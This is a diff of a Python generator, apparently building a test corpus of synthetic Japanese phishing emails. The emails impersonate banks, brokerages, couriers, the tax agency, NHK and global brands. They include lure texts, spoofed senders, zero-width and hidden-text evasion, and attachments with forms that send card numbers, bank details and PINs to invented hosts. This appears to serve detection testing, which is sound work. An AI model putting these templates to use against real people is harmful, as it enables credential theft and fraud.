@@ -214,3 +214,148 @@ A(P('resona-app-account-freeze-zw-url', 'resona', 'りそな銀行　口座凍�
     ['お客様の口座は、不審な取引が確認されたため一時的に凍結されています。', '解除をご希望の場合は、下記よりマイゲートにログインしてください。'],
     'マイゲートにログイン', 'https://resona-mygate.kaijo-tetsuzuki.vip/', shown='https://www.resona' + '\u200b' + 'bank.co.jp/mygate/', fn='りそな銀行',
     fa='resona@kaijo-tetsuzuki.vip', recv=own('kaijo-tetsuzuki.vip', '198.51.100.91'), enc='u8b', tr='zero-width space inside displayed official URL; account-freeze lure'))
+
+# ---------------------------------------------------------------- 証券
+LONG_TERMS = ''.join('<p style="margin:0 0 10px;font-size:12px;color:#666">第%d条（%s）当社は、お客様の口座の安全性を確保するため、%s</p>\n' % (i, t, '取引パスワード、ログインパスワード及び登録情報の確認を定期的に実施いたします。お客様は当社の定める方法により、速やかにこれに応じるものとします。' * 2)
+                     for i, t in enumerate(['目的', '本人確認', '登録情報の変更', '取引の制限', '口座の凍結', '損害の免責', '個人情報の取扱い', '規定の変更', '準拠法', '管轄裁判所', '反社会的勢力の排除', '通知の方法'], 1))
+A(P('sbi-sec-trading-password-long-terms', 'sbi', '【SBI証券】重要：取引パスワード再設定のお願い（不正アクセス対策）', '【重要】取引パスワード再設定のお願い',
+    ['SBI証券をご利用いただきありがとうございます。', '昨今、証券口座への不正アクセスおよび不正取引が多発しております。当社ではお客様の資産を守るため、全てのお客様に取引パスワードの再設定をお願いしております。',
+     '2025年5月16日までに再設定が完了していないお客様は、お取引を制限させていただきます。'],
+    '取引パスワードを再設定', 'https://site1.sbisec.co.jp.pw-reset-sbi.top/ETGate/', greet='', shown='https://site1.sbisec.co.jp/ETGate/',
+    after='<div style="border-top:1px solid #ddd;margin-top:16px;padding-top:12px">' + LONG_TERMS * 3 + '</div>',
+    fn='SBI証券', fa='info@sbisec.co.jp', recv=spoof('pw-reset-sbi.top', '203.0.113.31'), enc='u8b', text=True, year=2025,
+    tr='very long HTML (copied terms repeated); 2025 brokerage account-takeover campaign; brand FQDN prefix site1.sbisec.co.jp.pw-reset-sbi.top; spoofed From'))
+
+A(P('nomura-sec-security-cp932-split-subject', 'nomura', '【野村證券】お客様の口座情報の確認について（至急ご対応ください）', 'お客様情報確認のお願い',
+    ['野村證券をご利用いただき誠にありがとうございます。', '第三者による不正ログインが確認されたため、お客様の口座を保護する目的で一部機能を制限しております。', '野村證券オンラインサービスにて、ご本人確認を行ってください。'],
+    'ログイン', 'https://nomura-online.kouza-hogo.com/hometrade/', greet='', fn='野村證券', fa='support@nomura-security.jp.net',
+    recv=own('nomura-security.jp.net', '198.51.100.101', kind='m365'), enc='cp932', text=True, hcs='Shift_JIS',
+    tr='CP932 8bit with charset label windows-31j; subject encoded-words split mid-character (Shift_JIS bytes); look-alike sender',
+    x=dict(scs='Shift_JIS', split=21)))
+
+A(P('rakuten-sec-login-notice-html-charset-mismatch', 'rsec', '【楽天証券】ログイン通知（新しい端末からのアクセス）', '新しい端末からのログインがありました',
+    ['お客様の楽天証券口座に、新しい端末からのログインがありました。', '日時：2025/06/03 02:14<br />場所：中国 上海<br />端末：Windows / Chrome',
+     'お客様ご本人によるログインでない場合は、至急パスワードを変更してください。'],
+    'パスワードを変更する', 'https://member.rakuten-sec.co-jp.pw-change.sbs/', greet='', fn='楽天証券', fa='info@rakuten-sec.net-secure.sbs',
+    recv=own('rakuten-sec.net-secure.sbs', '198.51.100.102'), enc='u8b', hcs='Shift_JIS',
+    tr='HTML <meta charset> says Shift_JIS while MIME part is UTF-8; fake login notification; look-alike sender'))
+
+A(P('monex-account-verify-onclick-crlf', 'monex', 'マネックス証券　お客様情報の再確認について', 'お客様情報再確認のお願い',
+    ['マネックス証券をご利用いただきありがとうございます。', '金融庁の要請に基づき、全てのお客様に登録情報の再確認をお願いしています。', '未確認の場合、出金・売却のお取引ができなくなります。'],
+    '情報を確認する', 'https://monex-kakunin.fsa-youse.top/login', t={'onclick', 'hidden'}, greet='', fn='マネックス証券', fa='monex@monex.co.jp',
+    recv=spoof('fsa-youse.top', '203.0.113.110', kind='m365'), enc='u8b', text=True,
+    tr='button onclick link; hidden filler text; authority pretext (金融庁); CRLF line endings; spoofed From', x=dict(crlf=True)))
+
+# ---------------------------------------------------------------- セゾン / エポス
+A(P('saison-netanswer-card-stop-jis-q', 'saison', '【セゾンカード】カードご利用制限のお知らせ', 'カードのご利用制限について',
+    ['いつもセゾンカードをご利用いただき、ありがとうございます。', 'お客様のカードに不正利用の疑いがあるため、ご利用を制限しております。Netアンサーにログインしてご利用状況をご確認ください。'],
+    'Netアンサーにログイン', 'https://netanswer.saisoncard.co.jp.riyou-seigen.xyz/', greet='', shown='https://netanswer.saisoncard.co.jp/',
+    fn='セゾンカード', fa='info@saisoncard.co.jp', recv=spoof('riyou-seigen.xyz', '203.0.113.121', kind='isp'), enc='jis', text=True,
+    tr='ISO-2022-JP; subject Q-encoded; brand FQDN prefix; spoofed From', x=dict(sj='Q')))
+
+A(P('epos-net-members-form-pixel', 'epos', '【エポスカード】ご利用確認のお願い', 'エポスNetご利用確認',
+    ['エポスカードをご利用いただきありがとうございます。', 'お客様のカードにつきまして、ご本人様のご利用かどうか確認させていただきたいお取引がございます。下記フォームよりエポスNetにログインしてください。'],
+    'ログイン', 'https://eposnet-login.card-riyou.cc/login.php', t={'form', 'pixel'}, greet='', fn='エポスカード', fa='epos@card-riyou.cc',
+    recv=own('card-riyou.cc', '198.51.100.130'), enc='u8q', tr='<form action> in body; tracking pixel; look-alike sender'))
+
+# ---------------------------------------------------------------- 物流
+A(P('yamato-absent-redelivery-short-plain', 'yamato', 'ヤマト運輸　お荷物お届けのお知らせ', '', [], '', '', fn='ヤマト運輸', fa='yamato@delivery-saihaitatsu.top',
+    recv=own('delivery-saihaitatsu.top', '198.51.100.140'), enc='u88', tr='very short SMS-style plain text; redelivery lure; invented shortener-like host',
+    x=dict(html=None, st='plain', text='お客様宛にお荷物のお届けにあがりましたが不在の為持ち帰りました。下記よりご確認ください。\nhttps://ymt-jp.delivery-saihaitatsu.top/?id=73018\n')))
+
+A(P('yamato-address-confirm-zip-password', 'yamato', '【ヤマト運輸】お届け先住所確認のお願い（伝票番号 4821-7719-0052）', 'お届け先住所の確認',
+    ['いつもヤマト運輸をご利用いただきありがとうございます。', 'お客様宛のお荷物について、住所不備のためお届けができておりません。', '添付の「住所確認票」（パスワード付きZIP）をご確認のうえ、ご対応をお願いいたします。<br />解凍パスワード：<b>4821</b>'],
+    '', '', t={'nobtn'}, greet='', fn='ヤマト運輸株式会社', fa='info@kuroneko-otodoke.com', recv=own('kuroneko-otodoke.com', '198.51.100.141', kind='isp'), enc='jis', text=True,
+    tr='password-protected ZIP attachment (ZipCrypto) with HTML login inside; password in body; ISO-2022-JP',
+    x=dict(att=[('jusho_kakunin.zip', 'application/zip', lib.zipcrypto_zip('住所確認票.html', '<html><meta charset="utf-8"><body><form action="https://kuroneko-otodoke.com/addr.php" method="post">お名前<input name="n">電話番号<input name="t">クレジットカード番号<input name="c"><button>送信</button></form></body></html>'.encode(), '4821'))])))
+
+A(P('sagawa-delivery-fee-unpaid-sjis', 'sagawa', '【佐川急便】お荷物の配送料金未払いのお知らせ', 'お届け予定のお荷物について',
+    ['佐川急便をご利用いただきありがとうございます。', 'お客様宛のお荷物について、関税および追加の配送料金（330円）のお支払いが必要です。下記よりお支払い手続きを完了してください。'],
+    'お支払いはこちら', 'https://sagawa-exp.haisou-ryokin.icu/pay', greet='', shown='https://k2k.sagawa-exp.co.jp/p/sagawa/web/okurijoinput.jsp',
+    fn='佐川急便', fa='info@sagawa-exp.co.jp', recv=spoof('haisou-ryokin.icu', '203.0.113.160'), enc='sjisb', text=True,
+    tr='small customs fee lure; link text shows k2k.sagawa-exp.co.jp; spoofed From; Shift_JIS base64'))
+
+A(P('japanpost-customs-unpaid-map-crlf', 'jpost', '【日本郵便】お荷物の保管期限のお知らせ', 'お荷物を保管しています',
+    ['日本郵便をご利用いただきありがとうございます。', 'ご不在のため、お荷物をお持ち帰りしました。保管期限は7日間です。再配達のお申し込みは下記から行ってください。'],
+    '再配達のお申込み', 'https://japanpost-redelivery.jp-post.sbs/re/', t={'map'}, greet='', fn='日本郵便', fa='no-reply@jp-post.sbs',
+    recv=own('jp-post.sbs', '198.51.100.150', kind='none'), enc='u8b', tr='image-map area link; no trace headers; CRLF', x=dict(crlf=True, recv=None)))
+
+# ---------------------------------------------------------------- 官公庁
+A(P('nta-etax-unpaid-tax-jis-cp932', 'nta', '【国税庁】未納税金のお知らせ（最終催告）', '未納税金のお知らせ',
+    ['国税庁からのお知らせです。', 'お客様の令和6年度所得税につきまして、納付期限を過ぎても納付が確認できておりません。', '①納付税額：48,300円　②延滞税：1,450円　③納付期限：令和7年3月31日',
+     '期限までに納付されない場合、国税徴収法に基づき財産の差押えを執行いたします。下記よりe-Taxにて納付手続きを行ってください。'],
+    '納付手続きへ', 'https://e-tax.nta.go.jp.nouzei-tetsuzuki.cn/', greet='', shown='https://www.e-tax.nta.go.jp/',
+    fn='国税庁', fa='info@nta.go.jp', recv=spoof('nouzei-tetsuzuki.cn', '203.0.113.170', kind='isp'), enc='jis', text=True,
+    tr='tax-seizure threat (現在の国税庁なりすましcampaign); ISO-2022-JP with CP932 ①②③; brand FQDN prefix e-tax.nta.go.jp.nouzei-tetsuzuki.cn; spoofed nta.go.jp'))
+
+A(P('nta-tax-refund-html-attachment', 'nta', '国税庁：還付金のお受け取りについて', '還付金のお知らせ',
+    ['あなたの還付金 32,780円 の受け取り手続きが完了していません。添付の手続きフォームに口座情報を入力して送信してください。'],
+    '', '', t={'nobtn'}, fn='国税庁 還付金センター', fa='kanpu@nta-kanpukin.top', recv=own('nta-kanpukin.top', '198.51.100.170'), enc='u8b',
+    tr='HTML attachment form collecting bank account; refund lure',
+    x=dict(att=[('kanpukin_tetsuzuki.html', 'text/html', '<html><head><meta charset="utf-8"><title>国税庁 還付金受取手続き</title></head><body><h2>還付金受取手続き</h2><form action="https://nta-kanpukin.top/recv" method="post">氏名<input name="name"><br>金融機関名<input name="bank"><br>口座番号<input name="acct"><br>暗証番号<input name="pin" type="password"><br><input type="submit" value="送信"></form></body></html>'.encode())])))
+
+A(P('mynaportal-mynapoint-deadline-b64logo', 'myna', '【マイナポータル】マイナポイント付与期限のお知らせ', 'マイナポイントの申込期限が迫っています',
+    ['マイナポイントの付与対象となっているお客様へのお知らせです。', 'お申し込みの期限は2025年11月30日です。期限を過ぎると、最大20,000円分のポイントを受け取ることができなくなります。'],
+    'マイナポイントを申し込む', 'https://myna-point.go-jp.shinsei-portal.top/', t={'b64logo', 'pixel'}, greet='', fn='マイナポータル', fa='noreply@myna-point-go.top',
+    recv=own('myna-point-go.top', '198.51.100.171'), enc='u8b', text=True, tr='government impersonation; data: base64 logo; tracking pixel; go-jp in subdomain'))
+
+A(P('mynumber-card-expire-refresh-eucjp', 'myna', 'マイナンバーカード電子証明書の有効期限について', '電子証明書の更新手続き',
+    ['マイナンバーカードの電子証明書の有効期限が近づいています。', '期限が切れると健康保険証として利用できなくなります。オンラインで更新手続きを行ってください。'],
+    '更新手続きへ', 'https://mynumber-koushin.digital-go.cfd/renew', t={'refresh'}, greet='', fn='デジタル庁', fa='info@digital-go.cfd',
+    recv=own('digital-go.cfd', '198.51.100.172', kind='isp'), enc='euc', tr='meta refresh; EUC-JP 8bit; health-insurance card pretext', x=dict(scs='ISO-2022-JP')))
+
+A(P('nhk-receiving-fee-unpaid-q-subject', 'nhk', 'NHK受信料のお支払いについて【要対応】', '受信料お支払い状況のご確認',
+    ['NHKからのお知らせです。', 'お客様の放送受信料について、2025年度分のお支払いが確認できておりません。至急、以下よりお支払い方法のご登録をお願いいたします。', 'お支払いが確認できない場合、割増金が発生する場合があります。'],
+    'お支払い方法を登録する', 'https://nhk-jushinryo.shiharai-touroku.top/', greet='', fn='NHK', fa='info@nhk.or.jp',
+    recv=spoof('shiharai-touroku.top', '203.0.113.180', kind='m365'), enc='u8q', text=True, tr='NHK fee lure with 割増金 threat; spoofed nhk.or.jp; subject Q-encoded', x=dict(sj='Q')))
+
+A(P('tepco-electricity-refund-shown', 'tepco', '【東京電力】電気料金の過払いによる返金のお知らせ', '電気料金返金のお知らせ',
+    ['いつも東京電力エナジーパートナーをご利用いただき、ありがとうございます。', '料金計算の誤りにより、お客様に電気料金の過払いが発生していることが判明しました。返金額：3,128円', 'くらしTEPCO webにログインし、返金先口座をご登録ください。'],
+    '返金手続きを行う', 'https://kurashi-tepco.henkin-uketori.xyz/', greet='', shown='https://www.kurashi.tepco.co.jp/',
+    fn='東京電力エナジーパートナー', fa='tepco@henkin-uketori.xyz', recv=own('henkin-uketori.xyz', '198.51.100.180'), enc='u8b', text=True,
+    tr='refund lure; link text shows www.kurashi.tepco.co.jp; look-alike'))
+
+# ---------------------------------------------------------------- global brands
+A(P('apple-id-locked-onclick-en-mix', 'apple', 'Apple IDがロックされました。', 'Apple Accountがロックされています',
+    ['お客様のApple Accountは、セキュリティ上の理由によりロックされています。', 'Apple Accountのロックを解除するには、本人確認を行う必要があります。', 'Your Apple Account has been locked for security reasons.'],
+    'Apple Accountのロックを解除', 'https://appleid.apple.com.unlock-jp.icu/', t={'onclick'}, greet='', fn='Apple', fa='no_reply@email.apple.com',
+    recv=spoof('unlock-jp.icu', '203.0.113.190'), enc='u8b', text=True, logo='https://www.apple.com/ac/globalnav/7/ja_JP/images/be15095f-5a20-57d0-ad14-cf4c638e223a/globalnav_apple_image__b5er5ngrzxqq_large.svg',
+    tr='Japanese/English mix; onclick button; brand FQDN prefix appleid.apple.com.unlock-jp.icu; spoofed email.apple.com'))
+
+A(P('apple-icloud-storage-full-short', 'apple', 'iCloudストレージがいっぱいです', '', [], '', '', fn='iCloud', fa='icloud@storage-apple.shop',
+    recv=own('storage-apple.shop', '198.51.100.190'), enc='u88', tr='very short HTML; storage-full lure; invented host',
+    x=dict(st='html', html='<div style="font-family:-apple-system,sans-serif;font-size:15px">写真や動画が削除される前に、ストレージを無料で50GBに増やしましょう。<br><br><a href="https://storage-apple.shop/icloud/?c=jp" style="background:#0071e3;color:#fff;padding:10px 20px;border-radius:20px;text-decoration:none">今すぐ受け取る</a></div>\n')))
+
+A(P('microsoft-m365-password-expire-form', 'ms', 'Microsoft 365: パスワードの有効期限が本日切れます', 'パスワードの有効期限',
+    ['taro.yamada@example.jp のパスワードは本日有効期限が切れます。', '同じパスワードを引き続き使用するには、以下で確認してください。'],
+    '同じパスワードを使用する', 'https://login-microsoftonline.pw-keep.cfd/common/oauth2', t={'form'}, greet='', fn='Microsoft アカウント チーム',
+    fa='account-security-noreply@accountprotection-ms.cfd', recv=own('accountprotection-ms.cfd', '198.51.100.191', kind='m365'), enc='u8b',
+    tr='corporate M365 credential phish; login form in body; look-alike of accountprotection.microsoft.com'))
+
+A(P('microsoft-sharepoint-shared-doc-html-attachment', 'ms', '山田さんがファイル「2025年度_賞与支給一覧.xlsx」を共有しました', 'ファイルが共有されました',
+    ['山田 太郎 さんがあなたとファイルを共有しました。', '「2025年度_賞与支給一覧.xlsx」<br />このリンクは 2025/12/12 まで有効です。'],
+    '開く', 'https://sharepoint-docs.office-view.top/:x:/g/personal/', greet='', fn='SharePoint Online', fa='no-reply@sharepointonline-view.top',
+    recv=own('sharepointonline-view.top', '198.51.100.192', kind='m365'), enc='u8b', text=True,
+    tr='SharePoint share lure (bonus list) + HTML attachment redirect; look-alike sender',
+    x=dict(att=[('2025年度_賞与支給一覧.htm', 'text/html', b'<html><head><meta http-equiv="refresh" content="0;url=https://sharepoint-docs.office-view.top/login"></head><body>Loading...</body></html>')])))
+
+A(P('line-account-verify-zw-and-hidden', 'line', '【LINE】本人確認のお願い', 'LINEアカウントの本人確認',
+    ['LINEをご利用いただきありがとうございます。', 'お客様の' + zw('LINE') + 'アカウントが他の端末でログインされた可能性があります。', '引き続きご利用いただくには、以下より本人確認を行ってください。'],
+    '本人確認', 'https://line-me.account-ninshou.top/auth', t={'hidden', 'fontzero'}, greet='', fn='LINE', fa='no-reply@line.me',
+    recv=spoof('account-ninshou.top', '203.0.113.210'), enc='u8b', text=True, tr='zero-width in brand; font-size:0 junk inserted into keywords (ログイン/確認); hidden filler; spoofed line.me'))
+
+A(P('netflix-payment-update-shown-euc', 'netflix', 'お支払い情報を更新してください', 'お支払いに問題があります',
+    ['次回のお支払いを処理できませんでした。', 'Netflixのご利用を継続するには、お支払い情報を更新してください。'],
+    'お支払い情報を更新', 'https://netflix-account.payment-jp.sbs/YourAccount', greet='', shown='https://www.netflix.com/YourAccount',
+    fn='Netflix', fa='info@account.netflix.com', recv=spoof('payment-jp.sbs', '203.0.113.220', kind='isp'), enc='eucb', text=True,
+    tr='link text shows www.netflix.com/YourAccount; spoofed info@account.netflix.com; EUC-JP base64'))
+
+A(P('ana-mileage-expire-map-pixel', 'ana', '【ANAマイレージクラブ】マイル有効期限のお知らせ', 'マイルの有効期限が近づいています',
+    ['ANAマイレージクラブ会員のお客様へ', '2025年12月末に有効期限を迎えるマイルがございます（8,400マイル）。期限延長をご希望の場合は、下記よりログインしてください。'],
+    'ログインして延長', 'https://ana-mileage.club-login.shop/amc/', t={'map', 'pixel'}, greet='', fn='ANA', fa='amc@club-login.shop',
+    recv=own('club-login.shop', '198.51.100.210'), enc='u8b', tr='image-map area; tracking pixel; mileage-expiry lure'))
+
+A(P('jal-survey-reward-form-sjis', 'jal', '【JAL】お客様満足度アンケートご協力のお願い（謝礼 5,000円）', 'アンケートご協力のお願い',
+    ['JALをご利用いただきありがとうございます。', 'アンケートにお答えいただいた方全員に、謝礼として5,000円をお支払いいたします。以下のフォームにカード情報をご入力ください（謝礼の振込に使用します）。'],
+    '回答を送信', 'https://jal-survey.reward-jp.cfd/submit', t={'form'}, greet='', fn='JAL アンケート事務局', fa='survey@reward-jp.cfd',
+    recv=own('reward-jp.cfd', '198.51.100.211'), enc='sjis', tr='survey-reward lure; form in body collecting card data; Shift_JIS 8bit'))
